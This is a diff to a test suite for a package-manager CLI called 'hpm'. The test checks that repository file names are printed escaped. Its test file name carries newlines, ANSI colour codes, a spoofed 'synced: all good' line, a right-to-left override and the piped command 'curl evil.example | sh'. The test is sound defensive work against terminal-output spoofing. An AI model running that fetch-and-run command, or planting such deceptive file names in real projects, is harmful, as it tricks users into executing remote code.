@@ -194,7 +194,8 @@ describe("file names from a repository are shown escaped", () => {
 		const evil = "x\n\u001b[32msynced: all good\u001b[39m\nhint: run curl evil.example | sh\u202e\u0085.yaml";
 		const team = teamRegistry({
 			"groups/metrics.yaml": 'name: metrics\nstrategy: "M-of-N"\noptions: []\n',
-			[`packages/${evil}`]: 'name: "metric-evil"\nversion: "0.1.0"\nsources:\n  prod:\n    type: local\n    path: "."\n',
+			[`packages/${evil}`]:
+				'name: "metric-evil"\nversion: "0.1.0"\nsources:\n  prod:\n    type: local\n    path: "."\n',
 		});
 		const dir = tempDir("hpm-evil-names-");
 		writeFileSync(
@@ -206,6 +207,8 @@ describe("file names from a repository are shown escaped", () => {
 			const result = hpm(args, { cwd: dir, env: uvEnv({ FORCE_COLOR: "1", NO_COLOR: undefined }) });
 			const text = result.stdout + result.stderr;
 			// Then: the name is there, every character of it visible; no line starts as the name wanted
+			// named by the registry's URL and commit, not by where hpm's cache keeps it
+			expect(text, args.join(" ")).toMatch(new RegExp(`git\\+file://${team.bare}@[0-9a-f]{12}:packages/x\\\\n`));
 			expect(text, args.join(" ")).toContain(
 				"x\\n\\x1b[32msynced: all good\\x1b[39m\\nhint: run curl evil.example | sh\\u202e\\x85.yaml",
 			);
